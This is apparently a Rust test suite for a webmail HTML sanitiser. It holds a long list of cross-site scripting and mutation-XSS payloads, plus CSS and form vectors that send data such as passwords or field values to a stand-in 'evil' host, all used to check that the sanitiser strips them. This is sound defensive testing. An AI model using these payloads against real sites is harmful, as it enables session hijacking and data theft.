//! Attacks on webmail: what the sanitiser lets through is judged by a reader of its own.

use formats::html::{CleanOptions, Images, OUTPUT_MAX, clean, html_to_text, text_to_html};

use crate::{files, shared};

const TAGS: &str = " a abbr acronym address article aside b bdi bdo big blockquote br caption center cite \
    code col colgroup dd del details dfn dir div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 \
    header hr i img ins kbd li main mark ol p pre q s samp section small span strike strong sub summary \
    sup table tbody td tfoot th thead tr tt u ul var ";
const ATTRIBUTES: &str = " align alt bgcolor border bordercolor cellpadding cellspacing color colspan dir \
    face height href hspace lang noshade nowrap rel reversed rowspan rules scope size span src start style \
    summary target title type valign value vspace width ";

/// Reads serialised HTML strictly and fails on anything outside the allow-list.
pub(crate) fn harmless(html: &str, name: &str) {
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let end = rest[at..].find('>').expect("a closed tag");
        let mut tag = &rest[at + 1..at + end];
        rest = &rest[at + end + 1..];
        if let Some(name_only) = tag.strip_prefix('/') {
            assert!(
                TAGS.contains(&format!(" {name_only} ")),
                "{name}: </{name_only}>"
            );
            continue;
        }
        let len = tag.find(' ').unwrap_or(tag.len());
        assert!(
            TAGS.contains(&format!(" {} ", &tag[..len])),
            "{name}: <{tag}>"
        );
        tag = tag[len..].trim_start();
        while !tag.is_empty() {
            let (attribute, value) = tag.split_once("=\"").expect("a quoted attribute");
            let (value, more) = value.split_once('"').expect("a closed attribute");
            assert!(
                ATTRIBUTES.contains(&format!(" {attribute} ")),
                "{name}: {attribute}={value}"
            );
            harmless_value(attribute, value, name);
            tag = more.trim_start();
        }
    }
}

fn harmless_value(attribute: &str, value: &str, name: &str) {
    let lower = value.to_ascii_lowercase();
    match attribute {
        "href" => {
            let known = ["http://", "https://", "mailto:", "tel:"]
                .iter()
                .any(|s| lower.starts_with(s));
            assert!(known, "{name}: href {value}");
        }
        "src" => {
            let known = lower.starts_with("/cid/")
                || lower.starts_with("/proxy/")
                || lower.starts_with("data:image/");
            assert!(known && !lower.contains("svg"), "{name}: src {value}");
        }
        "style" => {
            // Quoted font names are text: take them out before looking for functions.
            let mut outside = String::new();
            for (at, piece) in lower.split("&quot;").enumerate() {
                if at % 2 == 0 {
                    outside.push_str(piece);
                }
            }
            for word in [
                "url",
                "image",
                "var(",
                "expression",
                "import",
                "position",
                "fixed",
                "absolute",
                "attr(",
                "@",
                "\\",
                "/*",
                "{",
                "}",
            ] {
                let harmless = word == "position" && outside.contains("list-style-position");
                assert!(harmless || !outside.contains(word), "{name}: style {value}");
            }
        }
        _ => {}
    }
}

fn options() -> CleanOptions<'static> {
    CleanOptions {
        images: Images::Allowed,
        cid_prefix: "/cid/",
        proxy: Some(&|_| "/proxy/x".to_owned()),
    }
}

/// The letter cleaned; nothing dangerous is left, and cleaning again changes nothing.
fn cleaned(html: &str) -> String {
    let once = clean(html, &options()).html;
    harmless(&once, html);
    once
}

fn check(html: &str, expected: &str) {
    assert_eq!(cleaned(html), expected, "{html}");
}

#[test]
fn harmless_letters_keep_their_look() {
    check(
        "<p style='color:red'>a<br>b</p>",
        "<p style=\"color: red\">a<br>b</p>",
    );
    check("<p>a<p>b", "<p>a</p><p>b</p>");
    check(
        "<ul><li>a<li>b<ul><li>c</ul></ul>",
        "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>",
    );
    check(
        "<table border=1 width=\"100%\"><tr><td bgcolor=#eee>a<td>b<tr><td colspan=2>c</table>",
        "<table border=\"1\" width=\"100%\"><tbody><tr><td bgcolor=\"#eee\">a</td><td>b</td></tr>\
         <tr><td colspan=\"2\">c</td></tr></tbody></table>",
    );
    check(
        "<body bgcolor=red><b>a</b></body>",
        "<div bgcolor=\"red\"><b>a</b></div>",
    );
    check("a &lt;b&gt; &amp; c &eacute;", "a &lt;b&gt; &amp; c é");
    check("1 < 2 > 0", "1 &lt; 2 &gt; 0");
    check(
        "<a href='https://x.vn/?a=1&b=2' onclick=x title=t>x</a>",
        "<a href=\"https://x.vn/?a=1&amp;b=2\" title=\"t\" target=\"_blank\" \
         rel=\"noopener noreferrer nofollow\">x</a>",
    );
    check(
        "<html><head><title>t</title><style>p{}</style></head><body>a</body></html>",
        "<div>a</div>",
    );
    check(
        "<!--[if mso]><b>x</b><![endif]-->a<![if !mso]>b<![endif]>",
        "ab",
    );
}

#[test]
fn images_are_blocked_counted_proxied_and_rewritten() {
    let letter = "<img src='https://evil/p.gif' width=1><img src=cid:a%40b/../c><img src=/mail/x>\
        <img src='data:image/png;base64,AAAA'><img src='data:image/svg+xml;base64,AAAA'><img src='HTTP://e/1'>";
    let blocked = clean(
        letter,
        &CleanOptions {
            images: Images::Blocked,
            cid_prefix: "/cid/",
            proxy: None,
        },
    );
    assert_eq!(blocked.blocked_images, 2);
    assert_eq!(
        blocked.html,
        "<img width=\"1\"><img src=\"/cid/a%40b%2F..%2Fc\"><img><img src=\"data:image/png;base64,AAAA\"><img><img>"
    );
    let proxy = |url: &str| format!("/proxy/{}", url.len());
    let shown = clean(
        letter,
        &CleanOptions {
            images: Images::Allowed,
            cid_prefix: "/cid/",
            proxy: Some(&proxy),
        },
    );
    assert_eq!(shown.blocked_images, 0);
    assert!(
        shown
            .html
            .starts_with("<img src=\"/proxy/18\" width=\"1\">"),
        "{}",
        shown.html
    );
    let unproxied = clean(
        letter,
        &CleanOptions {
            images: Images::Allowed,
            cid_prefix: "/cid/",
            proxy: None,
        },
    );
    assert_eq!(unproxied.blocked_images, 2);
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscr\nipt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    "<a href=' \u{1}javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil'>x</a>",
    "<a href='/mail/html/1'>x</a>",
    "<a href='https:evil'>x</a>",
    "<a href='https:\\\\evil'>x</a>",
    "<a href='http:///evil'>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)></foreignObject></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--->\n<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)>?>",
    "<p title=\"a\" style=\"color:red\" onmouseover=alert(1) title='b'>",
    "<p title='\"><script>alert(1)</script>'>",
    "<a title=`x` href=`javascript:alert(1)`>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><set attributeName=style to='background:url(https://evil)'>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><feImage href='https://evil'/></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<base href='https://evil/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil'>",
    "<link rel=stylesheet href=https://evil><link rel=prefetch href=https://evil>",
    "<form action=https://evil><input name=password><button formaction=https://evil>",
    "<input type=image src=https://evil><isindex action=javascript:x>",
    "<video poster=https://evil src=https://evil><audio src=https://evil><source srcset=https://evil>",
    "<img srcset='https://evil 1x' lowsrc=https://evil dynsrc=https://evil>",
    "<body background=https://evil onload=alert(1)><table background=https://evil><td background=https://evil>",
    "<bgsound src=https://evil><frameset onload=alert(1)><frame src=https://evil>",
    "<math href=https://evil><mi xlink:href=https://evil>x</mi></math>",
    "<div id=boot name=cookie class=x data-x=y>x</div>",
    "<a ping=https://evil href=https://x.vn download=x>x</a>",
    "<p style=\"background:url(https://evil)\">",
    "<p style=\"background:u\\72l(https://evil)\">",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">",
    "<p style=\"color:red;}@import url(https://evil);{\">",
    "<p style='font-family:\"</p><script>alert(1)</script>\"'>",
    "<style>p{color:red;font-family:'&quot;</p><script>alert(1)</script>'}</style><p>x",
    "<style>p{background-color:url(https://evil);position:fixed}*{color:red}</style><p class='a\" onclick=x'>x",
    "<style>@import url(https://evil);input[value^=a]{background:url(https://evil/a)}</style>",
    "<style><!--</style><script>alert(1)</script>--></style>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
    "<a><b><a href=javascript:x>",
    "<table><a href=javascript:x><tr><script>alert(1)</script></table>",
    "<select><noembed></select><script x='a@b'a>alert(1)</script>",
    "<div\u{0} onclick=alert(1)>",
    "<\u{0}script>alert(1)</script>",
    "<img src=\"x\"\u{b}onerror=alert(1)>",
    "<p/onclick=alert(1)/title=x>",
    "<p title=a=b onclick==x =y>",
    "<a href=\"https://x.vn/\"onclick=\"alert(1)\">",
    "<",
    "</",
    "<!",
    "<!-",
    "<!--",
    "<a",
    "<a ",
    "<a href",
    "<a href=",
    "<a href='",
    "<p title=\"",
    "</a",
];

#[test]
fn scripts_never_survive() {
    for attack in ATTACKS {
        let left = cleaned(attack).to_ascii_lowercase();
        assert!(!left.contains("evil\""), "{attack} left {left}");
    }
}

/// The collection of DOMPurify: its payloads are in JavaScript and JSON strings, so each string of
/// each file is cleaned.
#[test]
fn the_collected_attacks_leave_nothing() {
    let Some(folder) = shared("vectors/domPurify-xss") else {
        return;
    };
    let mut count = 0;
    for path in files(&folder) {
        let Ok(text) = std::fs::read_to_string(&path) else {
            continue;
        };
        for payload in strings(&text) {
            if payload.contains('<') {
                cleaned(&payload);
                count += 1;
            }
        }
        cleaned(&text);
    }
    assert!(count > 100, "only {count} payloads");
}

/// The string literals of JavaScript or JSON, their escapes undone.
fn strings(source: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut chars = source.chars();
    while let Some(quote) = chars.find(|c| matches!(c, '"' | '\'' | '`')) {
        let mut text = String::new();
        while let Some(c) = chars.next() {
            match c {
                '\\' => match chars.next() {
                    Some('n') => text.push('\n'),
                    Some('t') => text.push('\t'),
                    Some('u') => {
                        let digits: String = chars.by_ref().take(4).collect();
                        let code = u32::from_str_radix(&digits, 16).unwrap_or(63);
                        text.push(char::from_u32(code).unwrap_or('?'));
                    }
                    Some(c) => text.push(c),
                    None => break,
                },
                c if c == quote => break,
                '\n' if quote != '`' => break,
                c => text.push(c),
            }
        }
        found.push(text);
    }
    found
}

#[test]
fn i13_endless_letters_end() {
    let pieces = [
        "<div>",
        "<b>",
        "<p>",
        "<table>",
        "<table><tr><td>",
        "<li>",
        "<ul><li>",
        "<a href=https://x.vn>",
        "<font color=red>",
        "</div>",
        "<div></p>",
        "<b></p>",
        "<svg>",
        "<math>",
        "<select>",
        "<template>",
        "<!--",
        "<![CDATA[",
        "<style>",
        "<div><table><td></div>",
        "<b><p>",
        "<i title=a><p>",
        "<a><table>",
        "<form>",
        "<nobr>",
        "<frameset>",
        "&amp;",
        "&",
        "<p title='",
        "x ",
        "<blockquote>",
        "<h1>",
        "<dd>",
        "<img src=https://evil>",
        "<p style='color:red'>",
        "<p style='{{{{((((",
        "--",
        "</",
        "<a ",
    ];
    for piece in pieces {
        let letter = piece.repeat(100_000 / piece.len());
        let done = clean(&letter, &options());
        harmless(&done.html, piece);
        let _ = html_to_text(&letter);
    }
    let attributes: String = (0..100_000).map(|n| format!(" a{n}=1 title=x")).collect();
    cleaned(&format!("<p{attributes}>"));
    cleaned(&format!("<p style='{}'>", "color:red;".repeat(100_000)));
    cleaned(&format!("<p style='color:{}'>", "(".repeat(10_000)));
    cleaned(&format!("<p style='color:{}'>", "calc(".repeat(1_000)));
    let huge = clean(&"<p>chữ</p>".repeat(400_000), &options());
    assert!(huge.truncated && huge.html.len() <= OUTPUT_MAX * 2);
}

#[test]
fn plain_text_becomes_harmless_html() {
    let text_check = |text: &str, expected: &str| {
        let html = text_to_html(text);
        harmless(&html, text);
        assert_eq!(html, expected, "{text}");
    };
    text_check(
        "a < b & c > \"d\" 'e'",
        "a &lt; b &amp; c &gt; &quot;d&quot; &#39;e&#39;<br>",
    );
    text_check(
        "> a\n>> b\nc",
        "<blockquote>a<br><blockquote>b<br></blockquote></blockquote>c<br>",
    );
    let link = "<a href=\"https://x.vn/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">https://x.vn/a?b=1&amp;c=2</a>";
    text_check("(https://x.vn/a?b=1&c=2).", &format!("({link}).<br>"));
    for attack in [
        "https://x.vn/\"onmouseover=alert(1)",
        "https://x.vn/'><script>alert(1)</script>",
        "javascript:alert(1)",
        "http://javascript:alert(1)",
        "mailto:a@b.vn\"onclick=x",
        "https://https://https://x",
        "https://",
        "http:http://",
        "<script>alert(1)</script>",
        "&lt;script&gt;",
        "\u{0}<\u{0}script>",
    ] {
        let html = text_to_html(attack);
        harmless(&html, attack);
        assert_eq!(html_to_text(&html), attack.replace('\0', ""), "{attack}");
    }
    let _ = text_to_html(&">".repeat(1_000_000));
    let _ = text_to_html(&"http://".repeat(50_000));
    let _ = text_to_html(&"mailto:".repeat(50_000));
}

#[test]
fn html_becomes_readable_text() {
    let text = html_to_text(
        "<head><title>x</title></head><body><style>y</style><p>Kính gửi:&nbsp;&#212;ng  <b>An</b></p>\
         <ul><li>m&#x1ED9;t<li>hai</ul><table><tr><td>a<td>b</table><blockquote>cũ<br>hơn</blockquote>hết",
    );
    assert_eq!(
        text,
        "Kính gửi: Ông An\n\n- một\n- hai\n\na\tb\n\n> cũ\n> hơn\n\nhết"
    );
}
